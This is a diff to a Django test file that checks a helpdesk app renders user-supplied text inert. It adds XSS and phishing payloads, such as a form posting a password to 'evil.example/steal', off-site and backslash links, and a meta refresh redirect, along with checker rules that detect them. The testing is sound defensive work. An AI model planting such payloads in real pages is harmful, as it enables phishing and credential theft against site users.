@@ -14,8 +14,10 @@ from __future__ import annotations
 from datetime import timedelta
 from html.parser import HTMLParser
 from typing import Any
+from urllib.parse import urlsplit
 
 import pytest
+from django.conf import settings
 from django.core import mail
 from django.urls import reverse
 from django.utils import timezone
@@ -45,11 +47,28 @@ PAYLOADS = [
     "![pic](x\" onerror=\"alert('x7'))",
     "<object data=\"data:text/html,<script>alert('x8')</script>\"></object>",
     "{{ request.user.password }}{% debug %}",
+    "[Sign in again](//evil.example/x1)",
+    '<a href="//evil.example/x2">again</a>',
+    "[back](/\\evil.example/x3)",
+    "[off site](https://evil.example/x4)",
+    '<form action="https://evil.example/steal"><input name="password"></form>',
+    "<style>body{display:none}</style>",
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
 ]
+
+# Hosts a page may link to without "nofollow": the desk itself (tests run it as "testserver").
+SITE_HOSTS = {"testserver", urlsplit(settings.SITE_URL).hostname}
+OFF_SITE_REL = {"noopener", "noreferrer", "nofollow"}
 
 
 class InertChecker(HTMLParser):
-    """Collects every element and attribute that could run code or load a foreign page."""
+    """Collects every element and attribute that could run code, load a foreign page or restyle this one.
+
+    Links: a scheme-relative ("//host") or backslash ("/\\host") link is always a problem (browsers take
+    both off site); an absolute link to another host must say ``rel="noopener noreferrer nofollow"``.
+    Every form the app writes states its method, so a form without one came from someone's text.
+    """
 
     FORBIDDEN_TAGS = {"iframe", "object", "embed", "frame", "frameset", "applet", "base", "meta"}
     URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster"}
@@ -68,6 +87,15 @@ class InertChecker(HTMLParser):
             self.problems.append(f"<script {values}>")  # only scripts of this site, by URL
         if tag in self.FORBIDDEN_TAGS and not (tag == "meta" and self.in_head):
             self.problems.append(f"<{tag}>")
+        if tag == "style" or (tag == "link" and not self.in_head):
+            self.problems.append(f"<{tag} {values}>")
+        if tag == "form" and (not values.get("method") or self.off_site(values.get("action") or "")):
+            self.problems.append(f"<form {values}>")
+        href = values.get("href") or ""
+        if tag in ("a", "area") and self.off_site(href):
+            rel = set((values.get("rel") or "").split())
+            if href.replace("\\", "/").startswith("//") or not rel >= OFF_SITE_REL:
+                self.problems.append(f"{tag}[href={href!r} rel={values.get('rel')!r}]")
         for name, value in attrs:
             if name.startswith("on"):
                 self.problems.append(f"{tag}[{name}]")
@@ -75,6 +103,14 @@ class InertChecker(HTMLParser):
                 compact = "".join(value.split()).lower()
                 if compact.startswith(("javascript:", "vbscript:")) or (compact.startswith("data:") and tag != "img"):
                     self.problems.append(f"{tag}[{name}={value!r}]")
+
+    @staticmethod
+    def off_site(url: str) -> bool:
+        compact = "".join(url.split()).replace("\\", "/")
+        if compact.startswith("//"):
+            return True
+        host = urlsplit(compact).hostname
+        return host is not None and host not in SITE_HOSTS
 
     def handle_endtag(self, tag: str) -> None:
         if tag == "head":
@@ -101,6 +137,10 @@ def test_hostile_text_everywhere_comes_out_inert(world: Any, client_for: Any, pa
     CannedResponse.objects.create(
         department=world.it, title=hostile[:120], body=f"Hi {{{{ requester_name }}}} {hostile}"
     )
+    # What admins and leads write into the catalog: the service's texts, a field's label and help text.
+    world.laptop.description = world.laptop.what_you_get = world.laptop.what_to_provide = hostile
+    world.laptop.save(update_fields=["description", "what_you_get", "what_to_provide"])
+    world.laptop.fields.filter(name="asset_tag").update(label=hostile[:120], help_text=hostile[:255])
     with_mail = mail.outbox
 
     sr = services.request_file(
@@ -124,6 +164,7 @@ def test_hostile_text_everywhere_comes_out_inert(world: Any, client_for: Any, pa
     )
     other = services.request_file(service=world.laptop, requester=world.requester, title="Second", values={})
     services.request_transfer(service_request=other, to_service=world.certificate, by=world.agent, reason=hostile)
+    third = services.request_file(service=world.laptop, requester=world.requester, title=hostile[:200], values={})
     SavedView.objects.create(department=world.it, owner=world.lead, name=hostile[:80], query="q=x", shared=True)
     services.api_token_create(user=world.requester, name=hostile[:80])
     assessment = feedback_services.assessment_start(
@@ -137,6 +178,15 @@ def test_hostile_text_everywhere_comes_out_inert(world: Any, client_for: Any, pa
     invitation = assessment.invitations.get(respondent=world.requester)
     criteria = {c.key: Score(4, hostile) for c in assessment.criteria.all()}
     feedback_services.assessment_answer(invitation=invitation, by=world.requester, scores=criteria)
+    open_assessment = feedback_services.assessment_start(
+        department=world.it,
+        by=world.lead,
+        title="Open " + hostile[:100],
+        closes_at=timezone.now() + timedelta(days=7),
+        respondent_departments=[world.hr],
+        custom_criteria=["Kindness " + hostile[:60]],
+    )
+    open_invitation = open_assessment.invitations.get(respondent=world.requester)
     summaries_refresh(days=[timezone.localdate()])
 
     pages = {
@@ -149,7 +199,9 @@ def test_hostile_text_everywhere_comes_out_inert(world: Any, client_for: Any, pa
             reverse("feedback:request_thank", args=[sr.reference]),
             rating_url(request_id=sr.pk, user_id=world.requester.pk, score=5),
             reverse("feedback:assessment_answer", args=[invitation.token]),
+            reverse("feedback:assessment_answer", args=[open_invitation.token]),
             reverse("requests_app:catalog"),
+            reverse("requests_app:service_detail", args=[world.laptop.pk]),
         ],
         world.colleague: [reverse("requests_app:request_detail", args=[sr.reference])],
         world.lead: [
@@ -158,6 +210,7 @@ def test_hostile_text_everywhere_comes_out_inert(world: Any, client_for: Any, pa
             reverse("requests_app:queue", args=[world.it.slug]) + "?status=all&q=" + "x",
             reverse("requests_app:canned_response_list", args=[sr.reference]),
             reverse("feedback:department_dashboard", args=[world.it.slug]),
+            reverse("feedback:monthly_review", args=[world.it.slug, f"{timezone.localdate():%Y-%m}"]),
             reverse("feedback:assessment_detail", args=[assessment.pk]),
             reverse("feedback:assessment_list", args=[world.it.slug]),
             reverse("feedback:company"),
@@ -175,6 +228,14 @@ def test_hostile_text_everywhere_comes_out_inert(world: Any, client_for: Any, pa
             response = client.get(path)
             assert response.status_code == 200, (user, path, response.status_code)
             assert_inert(response.content.decode(), f"{user.username} {path}")
+
+    # The queue row that HTMX swaps in after a claim from the queue.
+    row = client_for(world.agent).post(
+        reverse("requests_app:request_claim", args=[third.reference]), {"from_row": "1"}, HTTP_HX_REQUEST="true"
+    )
+    assert row.status_code == 200
+    assert third.reference in row.content.decode()
+    assert_inert(row.content.decode(), "queue row")
 
     for message in [*with_mail, *mail.outbox]:
         for content, kind in getattr(message, "alternatives", []):
@@ -205,9 +266,28 @@ def test_hostile_text_everywhere_comes_out_inert(world: Any, client_for: Any, pa
         '<iframe src="https://evil.example/"></iframe>',
         '<form action="javascript:alert(1)"></form>',
         '<script src="//evil.example/x.js"></script>',
+        '<a href="//evil.example/">x</a>',
+        '<a href="/\\evil.example/">x</a>',
+        '<a href="https://evil.example/">x</a>',
+        '<a href="https://evil.example/" rel="nofollow">x</a>',
+        '<form action="https://evil.example/"></form>',
+        "<form><input name=password></form>",
+        "<style>body{display:none}</style>",
+        '<link rel="stylesheet" href="/x.css">',
     ],
 )
 def test_the_checker_catches_markup_that_would_run(markup):
     """The test above can fail: this is what it would find if a template or filter let markup through."""
     with pytest.raises(AssertionError):
         assert_inert(f"<html><body><p>{markup}</p></body></html>", "sample")
+
+
+def test_the_checker_lets_the_apps_own_markup_pass():
+    """Links within the site, off-site links marked as such, forms with a method, and the head's links."""
+    assert_inert(
+        '<html><head><link rel="stylesheet" href="/static/x.css"><meta charset="utf-8"></head><body>'
+        '<a href="/requests/IT-1/">x</a><a href="http://testserver/x">y</a>'
+        '<a href="https://example.org/" rel="nofollow noopener noreferrer">z</a>'
+        '<form method="post" action="/x/"></form></body></html>',
+        "sample",
+    )
